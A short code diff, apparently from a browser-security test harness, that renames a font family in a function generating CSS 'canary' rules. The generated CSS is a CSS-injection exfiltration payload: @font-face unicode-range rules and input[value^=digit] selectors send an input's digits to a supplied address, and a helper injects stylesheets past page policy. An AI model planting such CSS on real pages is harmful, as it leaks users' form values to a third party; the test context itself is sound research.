@@ -6,9 +6,9 @@ import { BREACH, type Attack } from '../attack.ts'
 const canary = (address: string): string =>
   Array.from(
     { length: 10 },
-    (_, digit) => `@font-face { font-family: told; src: url(${address}/font-${digit}); unicode-range: U+3${digit} }
+    (_, digit) => `@font-face { font-family: leak; src: url(${address}/font-${digit}); unicode-range: U+3${digit} }
 input[value^="${digit}"] { background: url(${address}/value-${digit}) !important }`,
-  ).join('\n') + '\ninput { font-family: told !important }'
+  ).join('\n') + '\ninput { font-family: leak !important }'
 
 /** Adds a style sheet to a document despite its policy, as browser extensions do. */
 async function inject(page: Page, into: Frame | Page, text: string): Promise<CDPSession> {
